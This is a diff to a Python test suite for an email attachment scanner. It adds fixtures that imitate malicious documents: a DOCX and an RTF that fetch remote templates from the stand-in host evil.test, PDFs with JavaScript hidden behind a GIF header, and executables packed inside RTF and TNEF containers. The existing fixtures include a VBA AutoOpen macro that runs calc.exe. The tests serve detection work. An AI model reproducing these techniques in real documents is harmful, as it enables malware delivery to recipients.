@@ -18,9 +18,10 @@ from elemta.findings import Result
 from elemta.testing import envelope, judge, policy, run, tools
 from elemta.verdict import Disposition
 from elemta_milter.checks.attachments import NO_MAGIC, Attachments
-from harness.archives import AES, PROGRAM, ole, packaged, rar5, sevenzipped, tarred, vba_project, zipped
+from harness.archives import AES, PROGRAM, ole, packaged, rar5, rtf, sevenzipped, tarred, tnef, vba_project, zipped
 
 PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>>\n"
+TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>'
 MACRO = b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'
 
 
@@ -96,6 +97,13 @@ def test_an_attachment_is_told_whole():
         (("a.mht", b"MIME-Version: 1.0\r\n\r\nQWN0aXZlTWltZQAAAfAEAAAA"), "macros", True),
         (("a.pdf", PDF + b"<</S /JavaScript>> <</S /Launch>>"), "script", ("javascript", "launch")),
         (("a.zip", zipped(("b.pdf", PDF + b"<</S /JavaScript>>"))), "script", ("javascript",)),
+        (("a.pdf", b"GIF89a" + PDF + b"<</S /JavaScript>>"), "script", ("javascript",)),
+        (("a.pdf", b"GIF89a" + PDF + b"<</Encrypt 3 0 R>>"), "encrypted", True),
+        (("a.docx", zipped(("[Content_Types].xml", b""), ("word/_rels/settings.xml.rels", TEMPLATE))), "fetches", True),
+        (("a.doc", b"{\\rtf1{\\*\\template http://evil.test/a}}"), "fetches", True),
+        (("a.doc", rtf(b"Package", packaged(b"b.exe", PROGRAM)[4:])), "extension", ("doc", "exe")),
+        (("winmail.dat", tnef((b"b.exe", "b.exe", PROGRAM))), "extension", ("dat", "exe")),
+        (("a.vhd", bytes(5000) + b"conectix" + bytes(504)), "unread", True),
         (("a.zip", zipped(("b.tgz", tarred(("c", b"x"), mode="w:gz")))), "archives", ("zip", "gz", "tar")),
         (("a.zip", zipped(("b.tgz", tarred(("c", b"x"), mode="w:gz")))), "depth", 3),
         (("a.zip", zipped(("b", bytes(5000)))), "octets", 5000),
